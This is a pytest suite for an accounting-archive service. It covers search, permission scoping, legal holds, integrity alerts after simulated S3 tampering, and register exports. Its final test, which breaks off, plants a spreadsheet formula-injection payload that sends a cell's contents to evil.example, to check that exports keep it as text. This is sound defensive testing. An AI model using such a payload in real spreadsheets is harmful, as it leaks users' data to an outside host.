"""The archive of record on the real servers: search, drill-through, holds, appraisal, re-checks."""

from __future__ import annotations

import asyncio
import hashlib
import io
import secrets
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from archive.adapters.handovers import Handovers
from archive.adapters.records import Records
from archive.app import create_app as archive_app
from archive.domain.lifecycle import HandoverRefused
from archive.domain.volumes import assemble, bind
from contracts.checks import Stage, at
from contracts.envelope import new_event
from contracts.events import ApprovalDecided, DocumentIngested, RecordArchived, RecordsHandedOver
from contracts.formats import XLSX
from contracts.records import CorrectionKind, CorrectionOf, InvoiceRef
from contracts.topics import (
    DOCUMENTS_INGESTED,
    HANDOVERS,
    INTEGRITY_ALERTS,
    LEGAL_HOLDS_PLACED,
    PAPER_VOLUMES,
    RECORDS_ACCESSED,
    RECORDS_ARCHIVED,
    source_of,
)
from contracts.types import Money
from devkit.identity import as_user
from devkit.samples import ingested_document, store_files, unique_pdf, voucher_summary
from devkit.send import EventSender
from devkit.testing import InProcessPermission, running, waive_gaps
from devkit.watch import EventWatcher, consumed, of_type
from servicekit import s3
from servicekit.database import Pool
from servicekit.settings import PlatformSettings

FONDS = "S" + secrets.token_hex(3).upper()
OTHER_FONDS = FONDS + "X"
ARCHIVIST, OUTSIDER = "zhaomin", "outsider"
EXPORT_FONDS = FONDS + "E"  # a fonds of its own for the export test: no other listing changes
LAG_FONDS = FONDS + "L"  # holds a record the permission service has not heard of
HELD_FONDS = FONDS + "H"  # a fonds of its own for the ERP's 未结清 mark: its appraisal alone
ACCOUNTANT = "lijing"  # 会计人员 of FONDS: offers handovers (移交人)
SUPERVISOR = "wangqiang"  # 财务经理: supervises them (监交人)
# These tests are about the handover itself: the years they hand over hold a voucher or two.
HANDOVER_ONLY = "测试：只考察移交本身，本年度的其余资料不在此测试中"
ROLES = [
    *((ARCHIVIST, "archivist", f) for f in (FONDS, EXPORT_FONDS, LAG_FONDS, HELD_FONDS)),
    (ACCOUNTANT, "accountant", FONDS),
]


async def offer(http: httpx.AsyncClient, fiscal_year: int, who: str = ACCOUNTANT) -> str:
    """The accounting department offers a year of FONDS for handover, and the 监交人 it names
    confirms the offer: the offer's id."""
    body = {"fonds_code": FONDS, "fiscal_year": fiscal_year, "supervised_by": SUPERVISOR}
    r = await http.post("/v1/handover-offers", json=body, headers=as_user(who))
    assert r.status_code == 201, r.text
    assert r.json()["offered_by"] == who
    offer_id = str(r.json()["offer_id"])
    r = await http.post(f"/v1/handover-offers/{offer_id}/supervision", headers=as_user(SUPERVISOR))
    assert r.status_code == 201, r.text
    return offer_id


async def document(
    platform: PlatformSettings,
    *,
    fonds: str,
    year: int,
    summary: str,
    amount: str,
    seller: str = "",
    invoice: str | None = None,
    period: int = 3,
    open_matter: str | None = None,
) -> DocumentIngested:
    store = s3.ObjectStore(s3.connect(platform), platform.bucket_name("ingest-originals"))
    await store.ensure_bucket()
    files = await store_files(
        store,
        [
            ("voucher", "voucher.json", "application/json", f'{{"id": "{uuid.uuid4()}"}}'.encode()),
            ("attachment", "scan.pdf", "application/pdf", unique_pdf()),
        ],
    )
    invoices = (
        ()
        if invoice is None
        else (
            InvoiceRef(
                invoice_number=invoice,
                seller_tax_id="91110105MA01ABCD2X",
                buyer_tax_id="91310115MA1K4XYZ0P",
                seller_name=seller,
                buyer_name="上海澄明科技有限公司",
                issue_date=f"{year}-03-03",
                total=Money(amount=amount),
                file_sha256=files[1].sha256,
            ),
        )
    )
    return ingested_document(
        files,
        fonds_code=fonds,
        fiscal_year=year,
        period=period,
        voucher=voucher_summary(
            voucher_no=f"记-{secrets.randbelow(9999):04d}",
            voucher_date=f"{year}-{period:02d}-05",
            summary=summary,
            total=Money(amount=amount),
            open_matter=open_matter,
        ),
        invoices=invoices,
    )


async def archive_document(platform: PlatformSettings, doc: DocumentIngested) -> RecordArchived:
    """Announce ``doc`` as ingest would, and wait until the archive has archived it and the
    permission service, which learns of records from that event, has heard of it."""
    async with (
        EventWatcher(platform.kafka_bootstrap, platform.namespace, [RECORDS_ARCHIVED]) as watch,
        EventSender(platform.kafka_bootstrap, platform.namespace) as out,
    ):
        await out.send(
            new_event(
                doc, source=source_of("ingest"), subject=str(doc.document_id), correlation_id="c"
            )
        )
        [archived] = await watch.wait_for(of_type("RecordArchived", record_id=str(doc.document_id)))
    await consumed(platform.kafka_bootstrap, platform.namespace, "permission", [RECORDS_ARCHIVED])
    return RecordArchived.model_validate(archived.data)


@pytest.fixture(scope="module")
async def archived(
    platform: PlatformSettings, permission: InProcessPermission
) -> AsyncIterator[tuple[httpx.AsyncClient, dict[str, DocumentIngested]]]:
    invoice = "2531" + str(uuid.uuid4().int)[:16]
    docs = {
        "travel": await document(
            platform,
            fonds=FONDS,
            year=2025,
            summary="报销北京出差差旅费",
            amount="1280.00",
            seller="北京国贸嘉华酒店管理有限公司",
            invoice=invoice,
        ),
        "office": await document(
            platform, fonds=FONDS, year=2025, summary="采购办公用品", amount="1000.00"
        ),
        "old": await document(
            platform, fonds=FONDS, year=1990, summary="1990年差旅费", amount="56.00"
        ),
        "other": await document(
            platform, fonds=OTHER_FONDS, year=2025, summary="差旅费（他单位）", amount="99.00"
        ),
    }
    await permission.assign(*ROLES)
    async with (
        running(archive_app(permission_transport=permission.transport)) as http,
        EventWatcher(platform.kafka_bootstrap, platform.namespace, [RECORDS_ARCHIVED]) as watch,
        EventSender(platform.kafka_bootstrap, platform.namespace) as out,
    ):
        for d in docs.values():
            await out.send(
                new_event(
                    d, source=source_of("ingest"), subject=str(d.document_id), correlation_id="c"
                )
            )
        ids = {str(d.document_id) for d in docs.values()}
        await watch.wait_until(
            lambda: ids <= {s.event.subject for s in watch.seen}, 60, "4 records"
        )
        await consumed(
            platform.kafka_bootstrap, platform.namespace, "permission", [RECORDS_ARCHIVED]
        )
        yield http, docs


async def search(http: httpx.AsyncClient, user: str = ARCHIVIST, **params: Any) -> list[str]:
    r = await http.get("/v1/records", params={"fonds_code": FONDS, **params}, headers=as_user(user))
    assert r.status_code == 200, r.text
    return sorted(i["summary"] for i in r.json()["items"])


async def test_search_by_chinese_text_amount_counterparty_and_invoice(archived: Any) -> None:
    http, docs = archived
    for wrong in ({"offset": "9" * 20}, {"fiscal_year": "-5"}, {"amount_min": "NaN"}):
        r = await http.get("/v1/records", params=wrong, headers=as_user(ARCHIVIST))
        assert r.status_code == 422, (wrong, r.text)  # named, never a 500
    assert await search(http, q="差旅费") == ["1990年差旅费", "报销北京出差差旅费"]
    assert await search(http, amount_min="1000.00", amount_max="1280.00") == [
        "报销北京出差差旅费",
        "采购办公用品",
    ]
    assert await search(http, amount_min="1000.01") == ["报销北京出差差旅费"]
    assert await search(http, counterparty="国贸嘉华") == ["报销北京出差差旅费"]
    number = docs["travel"].invoices[0].invoice_number
    assert await search(http, invoice_number=number) == ["报销北京出差差旅费"]
    assert await search(http, fiscal_year=1990, period=3) == ["1990年差旅费"]
    assert await search(http, q="(.*)") == []  # text is a substring, never a pattern
    r = await http.get("/v1/records", params={"amount_min": "0.001"}, headers=as_user(ARCHIVIST))
    assert r.status_code == 422


async def test_search_returns_only_what_the_caller_may_see(archived: Any) -> None:
    http, _ = archived
    # Across every fonds, what the caller may see; the outsider may see nothing.
    r = await http.get("/v1/records", params={"q": "差旅费"}, headers=as_user(OUTSIDER))
    assert r.status_code == 200 and r.json()["items"] == []
    everywhere = await http.get("/v1/records", params={"q": "差旅费"}, headers=as_user(ARCHIVIST))
    fonds_seen = {i["fonds_code"] for i in everywhere.json()["items"]}
    assert FONDS in fonds_seen and OTHER_FONDS not in fonds_seen
    # Naming a fonds the caller holds no role in is refused, not answered empty.
    for who, fonds in ((ARCHIVIST, OTHER_FONDS), (OUTSIDER, FONDS)):
        r = await http.get("/v1/records", params={"fonds_code": fonds}, headers=as_user(who))
        assert r.status_code == 403, (who, r.text)
        assert (
            r.json()["detail"] == f"permission service denied: {who} holds no role in fonds {fonds}"
        )
    r = await http.get("/v1/records", params={"fonds_code": FONDS})
    assert r.status_code == 401


async def kept_handover_list(
    http: httpx.AsyncClient, platform: PlatformSettings, handover: dict[str, Any]
) -> None:
    """The handover's 移交清册, archived with it as a record of its own (附表1: 30年): a PDF and a
    workbook, with the year's volumes and the three confirmations printed in their order."""
    await consumed(platform.kafka_bootstrap, platform.namespace, "permission", [RECORDS_ARCHIVED])
    r = await http.get(
        f"/v1/records/{handover['handover_list_record_id']}", headers=as_user(ARCHIVIST)
    )
    assert r.status_code == 200, r.text
    kept = r.json()
    assert kept["archive_code"] == handover["handover_list"]
    assert (kept["category"], kept["retention"]["years"]) == ("handover_list", 30)
    assert [f["media_type"] for f in kept["originals"]] == ["application/pdf", XLSX]
    files = {}
    for f in kept["originals"]:
        url = f"/v1/records/{kept['record_id']}/originals/{f['sha256']}"
        files[f["media_type"]] = (await http.get(url, headers=as_user(ARCHIVIST))).content
        assert hashlib.sha256(files[f["media_type"]]).hexdigest() == f["sha256"]
    sheet = load_workbook(io.BytesIO(files[XLSX])).active
    assert sheet is not None
    rows = [[c for c in row if c is not None] for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == [
        f"会计档案移交清册  全宗号 {handover['fonds_code']}  {handover['fiscal_year']}年度  "
        f"档号 {handover['handover_list']}"
    ]
    times = {
        "移交人": handover["offered_at"],
        "监交人": handover["supervised_at"],
        "接收人": handover["handed_over_at"],
    }
    signed = [row for row in rows if row and str(row[0]).endswith("（平台确认）：")]
    assert [(row[0], row[1]) for row in signed] == [
        ("移交人（平台确认）：", handover["handed_over_by"]),
        ("监交人（平台确认）：", handover["supervised_by"]),
        ("接收人（平台确认）：", handover["received_by"]),
    ]
    for duty, _, when in signed:
        confirmed = datetime.fromisoformat(times[duty.split("（")[0]])
        assert when == f"{confirmed:%Y-%m-%d %H:%M:%S} UTC"
    assert any(f"共 {handover['volumes']} 卷" in str(row[0]) for row in rows if row)
    # The PDF reads the same: its heading and the confirmations, in its embedded CJK font.
    text = PdfReader(io.BytesIO(files["application/pdf"])).pages[0].extract_text()
    assert handover["handover_list"] in text and "会计档案移交清册" in text
    assert all(f"{duty}（平台确认）" in text for duty in times)


async def test_a_record_archived_a_moment_ago_is_not_refused_as_a_missing_right(
    archived: Any, archive_db: Pool
) -> None:
    """The permission service learns of a record from RecordArchived, a moment after the
    archive kept it. Asked in between, an archivist of the fonds is told to try again (503),
    never that the role is missing (403)."""
    http, docs = archived
    records = Records(archive_db)
    kept = await records.get(docs["travel"].document_id)
    assert kept is not None
    # Kept by the archive, its event not (yet) consumed by the permission service.
    unheard = kept.model_copy(
        update={
            "record_id": uuid.uuid4(),
            "fonds_code": LAG_FONDS,
            "archive_code": f"{LAG_FONDS}-2001-D30-PZ-000001",
        }
    )
    await records.add(unheard, {})
    r = await http.get(f"/v1/records/{unheard.record_id}", headers=as_user(ARCHIVIST))
    assert r.status_code == 503, r.text
    assert r.json()["detail"] == (
        f"permission service cannot decide yet: record {unheard.record_id} is not (yet) known"
        " as archived; try again in a moment"
    )
    assert r.headers["retry-after"] == "1"
    known = await http.get(f"/v1/records/{docs['travel'].document_id}", headers=as_user(ARCHIVIST))
    assert known.status_code == 200
    # Out of the caller's scope, a record answers exactly as one that does not exist.
    outsider = await http.get(
        f"/v1/records/{docs['travel'].document_id}", headers=as_user(OUTSIDER)
    )
    missing = uuid.uuid4()
    nowhere = await http.get(f"/v1/records/{missing}", headers=as_user(OUTSIDER))
    assert (outsider.status_code, nowhere.status_code) == (404, 404)
    assert outsider.json()["detail"] == f"no archive record {docs['travel'].document_id}"
    assert nowhere.json()["detail"] == f"no archive record {missing}"


async def test_drill_through_both_ways_in_one_call(
    archived: Any, platform: PlatformSettings
) -> None:
    http, docs = archived
    travel = docs["travel"]
    decided = ApprovalDecided(
        request_id=uuid.uuid4(),
        kind="borrowing",
        applicant="liuyang",
        fonds_code=FONDS,
        record_ids=(travel.document_id,),
        decision="approved",
        approver="王强",
        comment="",
        oa_instance_id="OA-77",
        decided_at=datetime.now(UTC),
        access_until=datetime(2099, 1, 1, tzinfo=UTC),
    )
    async with EventSender(platform.kafka_bootstrap, platform.namespace) as out:
        await out.send(
            new_event(
                decided,
                source=source_of("approval"),
                subject=str(decided.request_id),
                correlation_id="c",
            )
        )
    down: dict[str, Any] = {}
    for _ in range(100):
        down = (
            await http.get(f"/v1/records/{travel.document_id}/drill", headers=as_user(ARCHIVIST))
        ).json()
        if down["approvals"]:
            break
        await __import__("asyncio").sleep(0.1)
    assert [a["oa_instance_id"] for a in down["approvals"]] == ["OA-77"]
    assert down["invoices"][0]["seller_name"] == "北京国贸嘉华酒店管理有限公司"
    assert [a["sha256"] for a in down["attachments"]] == [travel.files[1].sha256]
    up = (
        await http.get(
            "/v1/drill",
            params={"invoice_number": travel.invoices[0].invoice_number},
            headers=as_user(ARCHIVIST),
        )
    ).json()
    assert up["record"]["record_id"] == str(travel.document_id)
    assert up["approvals"] == down["approvals"]
    r = await http.get("/v1/drill", params={"invoice_number": "0" * 20}, headers=as_user(ARCHIVIST))
    assert r.status_code == 404
    # An invoice held only in a fonds the reader does not see answers, byte for byte, as one
    # held nowhere (once, it answered with the id of the record holding it).
    number = travel.invoices[0].invoice_number
    held_elsewhere = await http.get(
        "/v1/drill", params={"invoice_number": number}, headers=as_user(OUTSIDER)
    )
    nowhere = await http.get(
        "/v1/drill", params={"invoice_number": "0" * 20}, headers=as_user(OUTSIDER)
    )
    assert (held_elsewhere.status_code, nowhere.status_code) == (404, 404)
    assert held_elsewhere.content == nowhere.content
    assert str(travel.document_id) not in held_elsewhere.text
    # From the attachment itself (a bank receipt has no invoice number): its SHA-256.
    by_file = await http.get(
        "/v1/drill", params={"sha256": travel.files[1].sha256}, headers=as_user(ARCHIVIST)
    )
    assert by_file.json()["record"]["record_id"] == str(travel.document_id)
    assert (await http.get("/v1/drill", headers=as_user(ARCHIVIST))).status_code == 422


async def test_legal_hold_keeps_an_expired_record_out_of_the_destruction_candidates(
    archived: Any, platform: PlatformSettings
) -> None:
    http, docs = archived
    old = docs["old"].document_id
    today = date.today().isoformat()
    before = (
        await http.get(
            "/v1/appraisal",
            params={"fonds_code": FONDS, "as_of": today},
            headers=as_user(ARCHIVIST),
        )
    ).json()
    assert [i["record_id"] for i in before["due"]] == [str(old)] and before["held"] == []

    async with EventWatcher(
        platform.kafka_bootstrap, platform.namespace, [LEGAL_HOLDS_PLACED]
    ) as watch:
        r = await http.post(
            f"/v1/records/{old}/legal-hold",
            json={"reason": "与杭州禾木贸易有限公司的应收账款未结清"},
            headers=as_user(ARCHIVIST),
        )
        assert r.status_code == 201, r.text
        [placed] = await watch.wait_for(of_type("LegalHoldPlaced", record_id=str(old)))
    assert placed.actor == ARCHIVIST
    assert (
        await http.post(
            f"/v1/records/{old}/legal-hold", json={"reason": "again"}, headers=as_user(ARCHIVIST)
        )
    ).status_code == 409
    assert (
        await http.post(
            f"/v1/records/{old}/legal-hold", json={"reason": "x"}, headers=as_user(OUTSIDER)
        )
    ).status_code == 404  # out of the outsider's scope: as if it did not exist
    during = (
        await http.get(
            "/v1/appraisal",
            params={"fonds_code": FONDS, "as_of": today},
            headers=as_user(ARCHIVIST),
        )
    ).json()
    assert during["due"] == []
    assert [i["record_id"] for i in during["held"]] == [str(old)]
    assert "应收账款未结清" in during["held"][0]["hold_reason"]

    r = await http.delete(
        f"/v1/records/{old}/legal-hold", params={"reason": "已结清"}, headers=as_user(ARCHIVIST)
    )
    assert r.status_code == 204
    after = (
        await http.get(
            "/v1/appraisal",
            params={"fonds_code": FONDS, "as_of": today},
            headers=as_user(ARCHIVIST),
        )
    ).json()
    assert [i["record_id"] for i in after["due"]] == [str(old)]


async def test_a_voucher_the_erp_marked_unsettled_is_held_from_its_archiving(
    archived: Any, platform: PlatformSettings
) -> None:
    """第十九条: a voucher of an unsettled claim is not destroyed while the matter is open. The
    ERP marks it 未结清 at upload: held from its archiving, in the store too, listed apart at
    appraisal, until an archivist releases it."""
    http, _ = archived
    matter = "应收杭州禾木贸易有限公司货款56500.00元未收回"
    doc = await document(
        platform, fonds=HELD_FONDS, year=1991, summary="销售货物", amount="56500.00",
        open_matter=matter,
    )  # fmt: skip
    async with EventWatcher(
        platform.kafka_bootstrap, platform.namespace, [LEGAL_HOLDS_PLACED]
    ) as watch:
        record = await archive_document(platform, doc)
        [placed] = await watch.wait_for(of_type("LegalHoldPlaced", record_id=str(record.record_id)))
    assert placed.data["reason"] == f"未结清（ERP）：{matter}"
    assert placed.actor == placed.data["placed_by"] == doc.submitted_by  # the ERP's word
    kept = s3.ObjectStore(s3.connect(platform), record.originals[0].bucket)
    for f in record.originals:
        hold = await asyncio.to_thread(
            kept.client.is_object_legal_hold_enabled, kept.bucket, f.object_key
        )
        assert hold is True, f.object_key

    async def appraisal() -> dict[str, Any]:
        params = {"fonds_code": HELD_FONDS, "as_of": date.today().isoformat()}
        r = await http.get("/v1/appraisal", params=params, headers=as_user(ARCHIVIST))
        assert r.status_code == 200, r.text
        return dict(r.json())

    due = await appraisal()  # 30 years after 1991: due, but held
    assert due["due"] == [] and [i["hold_reason"] for i in due["held"]] == [placed.data["reason"]]
    r = await http.delete(
        f"/v1/records/{record.record_id}/legal-hold",
        params={"reason": "货款已收回"},
        headers=as_user(ARCHIVIST),
    )
    assert r.status_code == 204, r.text
    settled = await appraisal()
    assert [i["record_id"] for i in settled["due"]] == [str(record.record_id)]


async def test_a_paper_volume_is_registered_and_found_from_the_records_it_relates_to(
    archived: Any, platform: PlatformSettings
) -> None:
    """第八条(三): the retrieval link between electronic records and the paper archives kept
    beside them, kept by the fonds' archivists and shown in each record's drill-through."""
    http, docs = archived
    travel = await http.get(f"/v1/records/{docs['travel'].document_id}", headers=as_user(ARCHIVIST))
    code = travel.json()["archive_code"]
    body = {
        "fonds_code": FONDS,
        "fiscal_year": 2025,
        "title": "2025年3月记账凭证（纸质，含住宿发票原件）",
        "location": "档案室 A-03-2",
        "archive_codes": [code],
    }
    by_accountant = await http.post("/v1/paper-volumes", json=body, headers=as_user(ACCOUNTANT))
    assert by_accountant.status_code == 403  # the archivists keep it
    unknown = {**body, "archive_codes": [code, f"{OTHER_FONDS}-2025-D30-PZ-000001"]}
    r = await http.post("/v1/paper-volumes", json=unknown, headers=as_user(ARCHIVIST))
    assert r.status_code == 422
    assert r.json()["detail"] == (
        f"no record of fonds {FONDS} has 档号 {OTHER_FONDS}-2025-D30-PZ-000001"
    )
    async with EventWatcher(platform.kafka_bootstrap, platform.namespace, [PAPER_VOLUMES]) as w:
        r = await http.post("/v1/paper-volumes", json=body, headers=as_user(ARCHIVIST))
        assert r.status_code == 201, r.text
        [registered] = await w.wait_for(
            of_type("PaperVolumeRegistered", volume_id=r.json()["volume_id"])
        )
    assert registered.data["record_ids"] == [str(docs["travel"].document_id)]
    assert (registered.actor, registered.data["archive_codes"]) == (ARCHIVIST, [code])
    drill = await http.get(
        f"/v1/records/{docs['travel'].document_id}/drill", headers=as_user(ARCHIVIST)
    )
    [paper] = drill.json()["paper_volumes"]
    assert (paper["title"], paper["location"]) == (body["title"], body["location"])
    assert paper["volume_id"] == r.json()["volume_id"]


async def test_a_changed_original_raises_an_integrity_alert_and_downloads_stay_original(
    archived: Any, platform: PlatformSettings
) -> None:
    """What a holder of the archive's S3 keys can do to a locked object is put a version over it
    (no policy refuses that). Once, the re-check then read the forged bytes; now every read names
    the version archived, and the version put over it is the alert."""
    http, docs = archived
    office = docs["office"]
    url = f"/v1/records/{office.document_id}"
    record = (await http.get(url, headers=as_user(ARCHIVIST))).json()
    first = (await http.post(f"{url}/recheck", headers=as_user(ARCHIVIST))).json()
    assert first["findings"] == []
    outcomes = {r["code"]: r["outcome"] for r in first["report"]}
    assert list(outcomes) == [i.code for i in at(Stage.PRESERVATION)]  # every item of the table
    assert "failed" not in outcomes.values()
    # Re-scanned with today's signatures, opened again, its metadata valid, its lock in place.
    for code in ("1-1", "2-1", "2-2", "2-3", "3-4", "3-5", "4-1", "4-2", "4-7"):
        assert outcomes[code] == "passed", code
    numbering = next(r for r in first["report"] if r["code"] == "2-6")
    assert numbering["outcome"] == "not_performed" and "临时保管" in numbering["detail"]

    attachment = next(f for f in record["originals"] if f["role"] == "attachment")
    store = s3.ObjectStore(s3.connect(platform), attachment["bucket"])
    await store.put(attachment["object_key"], b"forged content", "application/pdf")  # a new version
    metadata_key = f"{record['package']}metadata.xml"
    await store.put(metadata_key, b"<edited/>", "application/xml")
    async with EventWatcher(
        platform.kafka_bootstrap, platform.namespace, [INTEGRITY_ALERTS]
    ) as watch:
        result = (await http.post(f"{url}/recheck", headers=as_user(ARCHIVIST))).json()
        alerts = await watch.wait_for(
            of_type("IntegrityAlertRaised", record_id=str(office.document_id)), count=2
        )
    assert result["ok"] is False
    failed = {r["code"] for r in result["report"] if r["outcome"] == "failed"}
    assert failed == {"1-11"}  # the digests, size and package of the archived versions hold
    by_key = {a.data["object_key"]: a.data for a in alerts}
    assert set(by_key) == {attachment["object_key"], metadata_key}
    assert {a.data["check_code"] for a in alerts} == {"1-11"}
    assert by_key[attachment["object_key"]]["expected_sha256"] == attachment["sha256"]
    assert all("a later version was put over the archived one" in a.data["detail"] for a in alerts)

    r = await http.get(f"{url}/originals/{attachment['sha256']}", headers=as_user(ARCHIVIST))
    assert r.status_code == 200
    assert hashlib.sha256(r.content).hexdigest() == attachment["sha256"]  # the locked version
    assert Decimal(record["voucher"]["total"]["amount"]) == Decimal("1000.00")


async def test_reports_on_a_fonds_are_only_for_who_may_see_it(archived: Any) -> None:
    http, docs = archived
    outsider = as_user(OUTSIDER)
    asked = [
        ("GET", "/v1/appraisal", {"fonds_code": FONDS, "as_of": "2099-01-01"}),
        ("GET", "/v1/custody/overdue", {"fonds_code": FONDS, "as_of": "2099-01-01"}),
        ("GET", "/v1/numbering", {"fonds_code": FONDS, "fiscal_year": 2025, "period": 3}),
        ("GET", "/v1/volumes", {"fonds_code": FONDS, "fiscal_year": 2025}),
        ("POST", f"/v1/records/{docs['office'].document_id}/recheck", {}),
    ]
    for method, url, params in asked:
        r = await http.request(method, url, params=params, headers=outsider)
        # A fonds named: 403; a record by id out of scope: 404, as if it did not exist.
        assert r.status_code == (404 if "/records/" in url else 403), (url, r.status_code)
        r = await http.request(method, url, params=params, headers=as_user(ARCHIVIST))
        assert r.status_code == 200, (url, r.text)


async def test_the_scheduled_sweep_finds_a_changed_original(
    archived: Any, platform: PlatformSettings
) -> None:
    from archive.settings import ArchiveSettings

    # Another fonds, so that this year's record changes no other test's listing.
    doc = await document(
        platform, fonds=OTHER_FONDS, year=2020, summary="二〇二〇年凭证", amount="3.00"
    )
    record = await archive_document(platform, doc)
    scan = next(f for f in record.originals if f.role == "attachment")
    store = s3.ObjectStore(s3.connect(platform), scan.bucket)
    await store.put(scan.object_key, b"%PDF-1.4 replaced", "application/pdf")

    # A second archive process whose sweep runs every second (the default is daily).
    sweeping = ArchiveSettings(recheck_sweep_seconds=1, instance_id=f"sweeper-{uuid.uuid4()}")
    async with (
        EventWatcher(platform.kafka_bootstrap, platform.namespace, [INTEGRITY_ALERTS]) as watch,
        running(archive_app(sweeping)),
    ):
        alerts = await watch.wait_for(
            of_type("IntegrityAlertRaised", record_id=str(doc.document_id))
        )
    [alert] = alerts
    assert (alert.data["check_code"], alert.data["object_key"]) == ("1-11", scan.object_key)
    assert "a later version was put over the archived one" in alert.data["detail"]
    assert alert.actor == "recheck"


async def test_voucher_numbering_of_a_period_is_reported(archived: Any) -> None:
    http, docs = archived
    r = await http.get(
        "/v1/numbering",
        params={"fonds_code": FONDS, "fiscal_year": 2025, "period": 3},
        headers=as_user(ARCHIVIST),
    )
    [ji] = r.json()["words"]
    numbers = sorted(int(docs[k].voucher.voucher_no.split("-")[1]) for k in ("travel", "office"))
    assert ji["word"] == "记" and ji["count"] == 2 and ji["last"] == numbers[-1]
    assert ji["gaps"] == [n for n in range(1, numbers[-1] + 1) if n not in numbers]


async def test_each_record_is_a_locked_self_describing_package(
    archived: Any, platform: PlatformSettings
) -> None:
    import asyncio
    import xml.etree.ElementTree as ET

    from minio.commonconfig import COMPLIANCE

    from archive.domain import metadata

    http, docs = archived
    record = (
        await http.get(f"/v1/records/{docs['travel'].document_id}", headers=as_user(ARCHIVIST))
    ).json()
    assert record["package"] == record["archive_code"] + "/"
    store = s3.ObjectStore(s3.connect(platform), record["originals"][0]["bucket"])
    meta = await store.get(record["package"] + "metadata.xml")
    root = ET.fromstring(meta)  # noqa: S314 - the archive's own output
    ns = {"a": metadata.NAMESPACE}
    assert root.findtext("a:档号", namespaces=ns) == record["archive_code"]
    assert root.findtext("a:来源/a:立档单位名称", namespaces=ns) == docs["travel"].company_name
    assert metadata.problems(meta) == []  # DA/T 46/94 elements, as the schema in the repo has them
    for key in (record["package"] + "metadata.xml", record["originals"][1]["object_key"]):
        retention = await asyncio.to_thread(store.client.get_object_retention, store.bucket, key)
        assert retention is not None and retention.mode == COMPLIANCE


async def test_volumes_and_the_registers_an_archive_department_signs(archived: Any) -> None:
    import io

    from openpyxl import load_workbook

    http, _ = archived
    params = {"fonds_code": FONDS, "fiscal_year": 2025}
    volumes = (await http.get("/v1/volumes", params=params, headers=as_user(ARCHIVIST))).json()
    [march] = [v for v in volumes if v["period"] == 3]
    assert (march["volume"], march["period"], march["items"]) == (1, 3, 2)

    r = await http.get("/v1/registers/custody.xlsx", params=params, headers=as_user(ARCHIVIST))
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert f"全宗号 {FONDS}" in str(rows[0][0])
    assert rows[1][:3] == ("序号", "档号", "卷号")
    march_rows = [row for row in rows[2:] if row[3] == "2025-03"]
    assert sorted(str(row[5]) for row in march_rows) == ["报销北京出差差旅费", "采购办公用品"]

    r = await http.get("/v1/registers/handover.xlsx", params=params, headers=as_user(ARCHIVIST))
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    # 第二十四条's fields: 名称, 卷号, 册数, 起止年度, 档案编号, 应保管期限, 已保管期限 (then 件数)
    assert rows[1][:7] == (
        "名称",
        "卷号",
        "册数",
        "起止年度",
        "档案编号",
        "应保管期限",
        "已保管期限",
    )
    assert (rows[2][0], rows[2][1], rows[2][7]) == ("记账凭证（2025年03月）", 1, 2)  # two vouchers
    assert rows[2][5] == "30年" and rows[2][6] in {"未满1年", "1年"}
    assert str(rows[-2][0]).startswith("共 ") and "卷" in str(rows[-2][0])
    denied = await http.get("/v1/registers/custody.xlsx", params=params, headers=as_user(OUTSIDER))
    assert denied.status_code == 403


async def test_two_originals_of_the_same_bytes_are_each_locked_and_held_on_their_own(
    archived: Any, platform: PlatformSettings
) -> None:
    """An ERP that sends one scan twice: two originals of one digest, each its own object, its
    own locked version, its own legal hold (found by place, never by digest alone)."""
    http, _ = archived
    store = s3.ObjectStore(s3.connect(platform), platform.bucket_name("ingest-originals"))
    scan = unique_pdf()
    files = await store_files(
        store,
        [
            ("voucher", "voucher.json", "application/json", f'{{"id": "{uuid.uuid4()}"}}'.encode()),
            ("attachment", "scan.pdf", "application/pdf", scan),
            ("attachment", "scan.pdf", "application/pdf", scan),
        ],
    )
    doc = ingested_document(files, fonds_code=EXPORT_FONDS, fiscal_year=2015)
    record = await archive_document(platform, doc)
    first, second = (f for f in record.originals if f.role == "attachment")
    assert first.object_key != second.object_key and first.sha256 == second.sha256
    url = f"/v1/records/{record.record_id}"
    placed = await http.post(
        f"{url}/legal-hold", json={"reason": "未了事项"}, headers=as_user(ARCHIVIST)
    )
    assert placed.status_code == 201, placed.text
    kept = s3.ObjectStore(s3.connect(platform), first.bucket)
    for f in (first, second):
        hold = await asyncio.to_thread(
            kept.client.is_object_legal_hold_enabled, kept.bucket, f.object_key
        )
        assert hold is True, f.object_key
    download = await http.get(f"{url}/originals/{first.sha256}", headers=as_user(ARCHIVIST))
    assert download.status_code == 200 and download.content == scan


async def test_twenty_archivists_placing_or_releasing_one_hold_at_once_change_it_once(
    archived: Any, platform: PlatformSettings
) -> None:
    from contracts.topics import LEGAL_HOLDS_RELEASED

    http, _ = archived
    doc = await document(platform, fonds=EXPORT_FONDS, year=2014, summary="未结清", amount="3.00")
    record = await archive_document(platform, doc)
    url = f"/v1/records/{record.record_id}/legal-hold"
    async with EventWatcher(
        platform.kafka_bootstrap, platform.namespace, [LEGAL_HOLDS_PLACED, LEGAL_HOLDS_RELEASED]
    ) as watch:
        placed = await asyncio.gather(
            *(
                http.post(url, json={"reason": f"事项{n}"}, headers=as_user(ARCHIVIST))
                for n in range(20)
            )
        )
        released = await asyncio.gather(
            *(
                http.delete(url, params={"reason": "已结清"}, headers=as_user(ARCHIVIST))
                for _ in range(20)
            )
        )
        # Published by the outbox's relay after the answers: wait for both, then read to the end.
        await watch.wait_for(lambda e: e.subject == str(record.record_id), count=2)
        seen = await watch.caught_up()
    assert sorted(r.status_code for r in placed) == [201] + [409] * 19, [r.text for r in placed]
    assert sorted(r.status_code for r in released) == [204] + [409] * 19
    mine = [s.event for s in seen if s.event.subject == str(record.record_id)]
    assert sorted(e.type.split(".")[-2] for e in mine) == ["LegalHoldPlaced", "LegalHoldReleased"]


async def test_registers_write_what_users_typed_as_text_never_as_a_formula(
    archived: Any, platform: PlatformSettings
) -> None:
    import csv
    import io

    from openpyxl import load_workbook

    http, _ = archived
    summary = '=HYPERLINK("http://evil.example/?"&A1,"点此报销")'
    doc = await document(platform, fonds=EXPORT_FONDS, year=2016, summary=summary, amount="-5.00")
    await archive_document(platform, doc)
    params = {"fonds_code": EXPORT_FONDS, "fiscal_year": 2016}
